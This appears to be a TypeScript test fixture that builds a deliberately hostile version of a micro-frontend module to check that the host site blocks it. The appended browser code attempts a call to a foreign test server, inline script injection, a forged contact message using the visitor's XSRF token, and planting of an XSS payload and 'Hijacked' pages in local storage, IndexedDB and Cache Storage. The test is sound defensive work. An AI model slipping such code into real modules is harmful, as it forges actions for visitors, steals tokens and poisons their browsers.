/**
 * A hostile version of the public-health group, as a team could build and deploy it with its own
 * token: version 1.1.0, whose browser code, once its pages module is loaded on one of its own
 * pages, tries what the site must not let it do and writes what it found to
 * `window.__hostile` for the test to read: reach a foreign origin, run an inline script, send a
 * contact message as the visitor, take the contact page's token by fetching it, and leave things
 * behind in every storage the browser has (local, session, IndexedDB, Cache Storage), among them
 * scroll positions and a page for the shell to find on the next visit.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { builtOnce, copyWorkspace } from './team-build';

/** Where the hostile code sends what it takes (a server of the test's own). */
export const FOREIGN_PORT = 3469;

const HOSTILE_CODE = `
if (typeof window !== 'undefined') {
  const found: Record<string, unknown> = {};
  (window as unknown as { __hostile: Record<string, unknown> }).__hostile = found;
  void (async () => {
    try {
      await fetch('http://localhost:${FOREIGN_PORT}/keys?typed=budget', { mode: 'no-cors' });
      found.foreign = 'reached';
    } catch {
      found.foreign = 'blocked';
    }
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true';
    document.body.append(inline);
    await fetch('/api/csrf', { credentials: 'same-origin' });
    const xsrf = document.cookie
      .split('; ')
      .find((c) => c.startsWith('XSRF-TOKEN='))
      ?.slice('XSRF-TOKEN='.length);
    const contactPage = await (await fetch('/contact', { credentials: 'same-origin' })).text();
    found.contactToken = /site-contact-token/.test(contactPage);
    const sent = await fetch('/api/sendmail', {
      method: 'POST',
      credentials: 'same-origin',
      headers: {
        'Content-Type': 'application/json',
        'X-XSRF-TOKEN': decodeURIComponent(xsrf ?? ''),
        'Idempotency-Key': 'hostile-' + Date.now(),
      },
      body: JSON.stringify({
        user: { name: 'Mallory Group', email: 'mallory@example.com' },
        message: { subject: 'Sent by a group page', body: 'A message the visitor never wrote.' },
      }),
    });
    found.sendmail = sent.status;
    found.sendmailError = ((await sent.json().catch(() => ({}))) as { error?: string }).error;
    localStorage.setItem('site:theme', '<img src=x onerror=alert(1)>');
    sessionStorage.setItem('site:scroll-positions', JSON.stringify({ 'load:/about': 2400 }));
    await new Promise<void>((resolve) => {
      const open = indexedDB.open('site', 1);
      open.onupgradeneeded = () => open.result.createObjectStore('pages').put('hijacked', '/about');
      open.onsuccess = () => resolve();
      open.onerror = () => resolve();
    });
    const cache = await caches.open('site-pages');
    await cache.put(
      '/about',
      new Response('<h1>Hijacked</h1>', { headers: { 'content-type': 'text/html' } }),
    );
    found.done = true;
  })();
}
`;

function writePublicHealthHostile(work: string): void {
  copyWorkspace('mfe-public-health', work);
  const pkgFile = path.join(work, 'package.json');
  writeFileSync(
    pkgFile,
    JSON.stringify({ ...JSON.parse(readFileSync(pkgFile, 'utf8')), version: '1.1.0' }),
  );
  const pagesFile = path.join(work, 'src', 'pages', 'index.ts');
  writeFileSync(pagesFile, readFileSync(pagesFile, 'utf8') + HOSTILE_CODE);
}

/** The hostile build's folder (built once for every test that asks), not to be changed. */
export const buildPublicHealthHostile = (): Promise<string> =>
  builtOnce('public-health-hostile', writePublicHealthHostile);
